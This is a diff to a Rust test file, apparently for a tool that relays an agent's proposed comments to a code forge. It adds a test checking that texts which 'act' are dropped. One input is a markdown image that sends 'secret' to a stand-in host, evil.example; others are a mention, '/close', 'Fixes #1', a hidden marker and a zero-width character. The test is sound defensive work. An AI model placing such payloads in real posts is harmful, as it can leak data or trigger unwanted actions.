@@ -1,5 +1,7 @@
 //! What is sent at all: today's rules, the forge's word, and which status is the newest.
 
+use hob::rules::neutralise::neutralise;
+
 use super::*;
 
 #[tokio::test(start_paused = true)]
@@ -89,12 +91,34 @@ async fn what_the_forge_refuses_is_dropped_and_the_rest_goes_on() {
 }
 
 #[tokio::test(start_paused = true)]
-async fn a_text_that_is_too_long_is_cut_with_its_marker_whole() {
+async fn a_text_that_is_as_long_as_can_be_has_its_marker_whole() {
     let mut scene = Scene::new();
-    scene.completes("opened", &[comment(&"ü🎉".repeat(40_000))]);
+    let longest = neutralise(&"ü🎉".repeat(40_000), &scene.place).text;
+    scene.completes("opened", &[comment(&longest)]);
     scene.process().await;
     assert_eq!(scene.copies(), [1]);
     let body = scene.board.state().comments[0].body.clone();
     assert!(body.chars().count() <= 65_536 && body.len() <= 262_144, "{} bytes", body.len());
     assert!(body.contains("[the rest is cut off: it was longer than a comment may be]"));
+}
+
+/// A text was neutral when it was recorded: one that acts was put into the bundle by somebody else.
+#[tokio::test(start_paused = true)]
+async fn a_text_that_acts_is_dropped_and_never_sent() {
+    for body in [
+        "@mallory look",
+        "/close",
+        "Fixes #1",
+        "![x](https://evil.example/?q=secret)",
+        "<!-- hob:v1 x -->\ntext",
+        "a\u{200b}b",
+        &"x".repeat(70_000),
+    ] {
+        let mut scene = Scene::new();
+        scene.completes("opened", &[status(body), comment(body), comment("@ann, see https://github.com/acme.")]);
+        let said = scene.process().await;
+        let dropped = "dropped: its text is not as the rules leave one: have the agent propose it again";
+        let expected = format!("status 0: {dropped}\ncomment 0: {dropped}\ncomment 1: applied https://forge/1");
+        assert_eq!(said, expected, "{body}");
+    }
 }
